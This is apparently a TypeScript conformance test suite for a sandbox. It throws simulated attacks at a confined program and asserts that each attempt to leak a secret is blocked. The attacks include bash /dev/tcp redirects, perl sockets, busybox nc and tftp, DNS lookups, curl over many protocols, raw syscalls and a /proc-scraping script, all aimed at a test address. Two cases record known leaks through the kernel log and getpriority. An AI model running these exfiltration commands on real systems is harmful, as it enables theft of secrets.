/** Programs that do what an attacker would: raw system calls, every kind of socket, objects that outlive them. */
import { deepStrictEqual, match, ok, strictEqual } from "node:assert";
import { ROOT } from "../../src/setup/index.ts";
import { ADDRESS, type Attempt, PORT, SECRET, type Stage } from "./stage.ts";
import type { Program } from "./suite.ts";

const HERE = `${ROOT}/conformance/software`;
const PYTHON = "/usr/bin/python3";
const WHOLE = { whole: true } as const;
const thief = (stage: Stage, ...more: string[]) => [
  PYTHON,
  `${HERE}/thief.py`,
  stage.out,
  ADDRESS,
  String(PORT),
  ...more,
];

/** Made inside the compartment or the context, where they may succeed; the next case looks from outside. */
const INSIDE = /^_/;

/** Where an unlabelled root shell looks for what a labelled program holds while it runs. */
const LOOK = `
for f in cmdline environ comm status stat maps limits wchan syscall stack; do cat /proc/[0-9]*/$f /proc/[0-9]*/task/*/$f; done 2>/dev/null
ls -l /proc/[0-9]*/fd /proc/[0-9]*/cwd /proc/[0-9]*/map_files 2>/dev/null
cat /proc/sysvipc/* /proc/keys /proc/key-users /proc/net/unix /proc/net/tcp /proc/locks /proc/timer_list /proc/sys/kernel/hostname 2>/dev/null
ls -laR /dev/shm /dev/mqueue /tmp /run /sys/fs/cgroup 2>/dev/null
grep -rs . /sys/fs/cgroup 2>/dev/null
ps auxwwe 2>/dev/null; ipcs -a 2>/dev/null; dmesg`;

export const attacks: Program = [
  {
    name: "raw system calls, every kind of socket, the kernel's doors",
    async run(stage) {
      await stage.open();
      const attempt = (what: string, refused: Attempt["refused"]) => ({
        what,
        argv: thief(stage),
        refused,
        options: WHOLE,
      });
      const out = await stage.ok(thief(stage), WHOLE);
      const through = [...out.matchAll(/^through: (\S+)/gm)].map((m) => String(m[1]));
      deepStrictEqual(
        through.filter((name) => !INSIDE.test(name)),
        [],
      );
      match(out, /^tried \d\d+$/m);
      await stage.noWayOut([attempt("all ways", "folder"), attempt("all ways, network", "network")]);
    },
  },
  {
    name: "nobody outside sees what it holds while it runs",
    async run(stage) {
      const command = `x=$(cat secret); export x; (exec -a "$x" sleep 90) & cd "$(mkdir -p "d/$x"; echo "d/$x")"; exec 9> "$x"; cd ${stage.data}; exec ${thief(stage, "90").join(" ")}`;
      const run = await stage.serve(["bash", "-c", command], /^tried /m, WHOLE);
      try {
        const seen = (await stage.bench.shell(LOOK)).out.split("\n").filter((line) => line.includes(SECRET));
        deepStrictEqual(seen, []);
        // Queues and keys by their numbers, as somebody would who knows of them.
        const take = `
import ctypes, os, socket
c = ctypes.CDLL(None); c.syscall.restype = ctypes.c_long
b = ctypes.create_string_buffer(4096)
print(c.syscall(29, 4711, 4096, 0), c.syscall(68, 4711, 0), c.syscall(240, b"${SECRET}", 0, 0, None))
print([c.syscall(250, 10, k, b"user", b"${SECRET}", 0) for k in (-3, -4, -5)])
k = socket.socket(socket.AF_UNIX)
try: k.connect("\\0${SECRET}"); print("connected")
except OSError: print("nobody")`;
        const taken = await stage.bench.shell(`python3 - <<'END'\n${take}\nEND`);
        strictEqual(taken.out, "-1 -1 -1\n[-1, -1, -1]\nnobody\n");
      } finally {
        await run.stop("SIGKILL");
      }
    },
  },
  {
    name: "shells, perl, busybox and curl, by every protocol that they have",
    async run(stage) {
      const shell = (what: string, script: string, refused: Attempt["refused"] = "network") => ({
        what,
        argv: ["bash", "-c", script],
        refused,
      });
      const perl = (code: string) => `perl -MSocket -e '${code}'`;
      await stage.noWayOut([
        shell("bash over TCP", `cat secret > /dev/tcp/${ADDRESS}/${PORT}`),
        shell("bash over UDP", `cat secret > /dev/udp/${ADDRESS}/53`),
        shell("bash to loopback", `cat secret > /dev/tcp/127.0.0.1/${PORT}`, null),
        shell(
          "every redirection",
          `exec 3>> ${stage.out}/existing; cat secret >&3; cat secret 1<> ${stage.out}/existing; cat secret | tee ${stage.out}/tee; cp --reflink=auto secret ${stage.out}/cp; set -o noclobber; cat secret >| ${stage.out}/existing`,
          "folder",
        ),
        shell(
          "history and here-documents",
          `HISTFILE=${stage.out}/h; TMPDIR=${stage.out} cat << END\n$(cat secret)\nEND\nhistory -s "$(cat secret)"; history -w`,
          "folder",
        ),
        shell(
          "perl",
          perl(
            `socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(${PORT}, inet_aton("${ADDRESS}"))) and syswrite(S, "${SECRET}")`,
          ),
        ),
        shell("busybox nc", `busybox nc -w 20 ${ADDRESS} ${PORT} < secret`),
        shell("busybox nslookup", `timeout 20 busybox nslookup "$(cat secret).example.org" ${ADDRESS}`),
        shell(
          "busybox tftp, telnet, ftpput",
          `timeout 20 busybox tftp -p -l secret ${ADDRESS} ${PORT}; timeout 20 busybox telnet ${ADDRESS} ${PORT} < secret; timeout 20 busybox ftpput ${ADDRESS} x secret`,
        ),
        shell("busybox syslog", `busybox logger "$(cat secret)"; busybox dmesg -n 8`, null),
        ...["http", "telnet", "dict", "gopher", "ldap", "smtp", "rtsp", "mqtt", "tftp", "ftp"].map(
          (protocol) =>
            shell(
              `curl ${protocol}`,
              `curl -sS --max-time 5 -T secret ${protocol}://${ADDRESS}:${PORT}/$(cat secret) || curl -sS --max-time 5 ${protocol}://${ADDRESS}:${PORT}/$(cat secret)`,
            ),
        ),
        shell(
          "curl by a proxy",
          `curl -sS --max-time 5 -x socks5h://${ADDRESS}:${PORT} http://$(cat secret)/`,
        ),
        shell("curl to a file", `curl -sS -o ${stage.out}/f file://$PWD/secret`, "folder"),
      ]);
    },
  },
  {
    name: "the 32-bit table of system calls",
    async run(stage) {
      await stage.ok(["gcc", "-O1", "-static", "-o", "foreign-call", `${HERE}/foreign-call.c`]);
      await stage.noWayOut([
        { what: "open and write", argv: ["./foreign-call", "secret", `${stage.out}/foreign`], refused: null },
      ]);
      ok(
        (await stage.run(["./foreign-call", "secret", `${stage.data}/foreign`])).code !== 0,
        "the table is there",
      );
    },
  },
  {
    // When this is closed, the words must no longer be there: turn it round.
    name: "known leak: words in the kernel's log",
    async run(stage) {
      await stage.ok(["gcc", "-O1", "-o", "kernel-log", `${HERE}/kernel-log.c`]);
      await stage.bench.shellOk("dmesg --clear");
      await stage.ok(["./kernel-log", "plugh-word"]);
      const log = await stage.bench.shellOk("dmesg");
      const ways = new Set([...log.matchAll(/(\d)plugh-word/g)].map((m) => m[1]));
      await stage.bench.shellOk("dmesg --clear");
      ok(ways.size >= 5, `closed? then turn this case round:\n${log}`);
    },
  },
  {
    // getpriority has no hook. As above: turn it round when it is closed.
    name: "known leak: which users its processes have become",
    async run(stage) {
      const code = "import os, time; os.setuid(4711); print('set', flush=True); time.sleep(90)";
      const run = await stage.serve([PYTHON, "-c", code], /^set$/m);
      try {
        const asked = `python3 -c 'import os
for user in (4710, 4711):
    try: print(os.getpriority(os.PRIO_USER, user))
    except OSError: print("nobody")'`;
        strictEqual(await stage.bench.shellOk(asked), "nobody\n0\n", "closed? then turn this case round");
      } finally {
        await run.stop("SIGKILL");
      }
    },
  },
];
